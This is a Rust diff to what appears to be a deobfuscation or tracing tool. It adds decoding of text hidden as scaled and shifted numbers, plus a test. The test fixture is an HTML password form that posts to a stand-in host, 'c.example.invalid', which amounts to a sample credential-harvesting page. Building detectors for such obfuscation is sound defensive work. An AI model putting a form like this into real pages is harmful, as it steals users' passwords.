@@ -6,7 +6,7 @@
 //!
 //! Not here: what the bytes are then (`fs/contents`).
 
-use super::layers;
+use super::{layers, shifted};
 use crate::tracer::Value;
 
 /// Numbers below this may be characters; greater ones are addresses more often.
@@ -81,7 +81,7 @@ impl Spelled {
         if self.is_text == Some(true) {
             let is_packed = self.low_first != self.high_first;
             let backwards = self.low_first.iter().rev().copied().collect();
-            let once = each_once(&self.low_first);
+            let once = each_once(&self.low_first).into_iter().chain(self.unscaled());
             let plain = std::iter::once(self.low_first).chain(is_packed.then_some(self.high_first));
             return plain.chain([backwards]).chain(once).collect();
         }
@@ -93,6 +93,22 @@ impl Spelled {
             words(|bytes, width| bytes[..width].iter().rev().copied().collect()),
             words(|bytes, _| vec![bytes[0]]),
         ]
+    }
+
+    /// The text that they are if each is a character times something.
+    fn unscaled(&self) -> Option<Vec<u8>> {
+        // What comes after the last letter is nothing.
+        let end = self.numbers.iter().rposition(|number| *number != 0)? + 1;
+        let numbers = self.numbers[..end].iter().map(|&number| i64::try_from(number).ok());
+        let mut numbers: Vec<i64> = numbers.collect::<Option<_>>()?;
+        let mut tried = 0;
+        let found = shifted::unscaled(&numbers, &mut tried);
+        found.or_else(|| {
+            let last = *numbers.last()?;
+            let letters = numbers.iter().rposition(|number| *number != last)? + 1;
+            numbers.truncate(letters);
+            shifted::unscaled(&numbers, &mut tried)
+        })
     }
 
     /// Whether those before, and this one, are the beginning of a program.
@@ -227,6 +243,15 @@ mod tests {
             spelled(TEXT.bytes().flat_map(|byte| [Value::I32(byte.into()); 4])),
         ] {
             assert!(read.iter().any(|read| read == TEXT.as_bytes()), "{read:?}");
+        }
+    }
+
+    #[test]
+    fn characters_that_are_all_as_many_times_as_large_are_read() {
+        let page = b"<form action='https://c.example.invalid/in'>Password <input type='password'></form>";
+        let letters = page.iter().map(|&byte| Value::I32(i32::from(byte) * 7 + 3));
+        for read in [spelled(letters.clone()), spelled(letters.chain([3; 4].map(Value::I32)))] {
+            assert!(read.iter().any(|read| read == page), "{read:?}");
         }
     }
 
